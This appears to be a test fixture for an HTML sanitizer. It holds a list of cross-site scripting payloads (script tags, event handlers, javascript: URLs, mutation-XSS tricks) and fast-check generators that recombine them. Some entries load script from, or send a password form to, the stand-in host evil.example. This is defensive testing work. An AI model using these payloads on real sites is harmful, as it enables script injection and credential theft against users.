import fc from 'fast-check'

/** Looks like a picture of the library, but was never uploaded. */
export const uploadedPicture = `/uploads/${'a'.repeat(26)}.jpg`

/** Scripts, frames and forms in spellings that have got past other sanitizers. */
export const hostileHtml = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${uploadedPicture}" onload="alert(1)">`,
  `<img src="${uploadedPicture}?"onerror="alert(1)">`,
  '<img src="javascript:alert(1)">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<img src="/uploads/../api/auth/logout">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<title><img src="</title><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; java&#x0A;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://site@evil.example/">x</a>',
  '<a href="x" data-youtube="&quot;><script>alert(1)</script>">x</a>',
  '<a href="/blog" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="/blog" target="_top" ping="https://evil.example/">x</a>',
  '<form action="https://evil.example/"><input name=password><button>Entrar</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<body onload=alert(1)>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p id="root" class="fixed" name="getElementById">x</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1) colspan="1e9">x</td></tr></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p/onclick=alert(1)>x</p>',
  '<a\u0000 href="java\u0000script:alert(1)">x</a>',
]

const crumb = fc.constantFrom(...hostileHtml.flatMap((payload) => payload.split(/(?=[<>"' =])/)))
const wrapper = fc.constantFrom('p', 'b', 'table', 'svg', 'math', 'noscript', 'style', 'iframe', 'a', 'pre')
const whole = fc.constantFrom(...hostileHtml)

/** Texts generated from payloads: from their pieces, nested in one another, and nested in other tags. */
export const hostileTexts = fc.oneof(
  fc.array(crumb, { minLength: 1, maxLength: 25 }).map((crumbs) => crumbs.join('')),
  fc
    .tuple(wrapper, fc.array(fc.oneof(whole, crumb), { minLength: 1, maxLength: 6 }))
    .map(([tag, parts]) => `<${tag}>${parts.join('')}</${tag}>`),
  fc.tuple(whole, whole, fc.double({ min: 0, max: 1, noNaN: true })).map(([outer, inner, place]) => {
    const at = Math.floor(place * outer.length)
    return outer.slice(0, at) + inner + outer.slice(at)
  }),
)
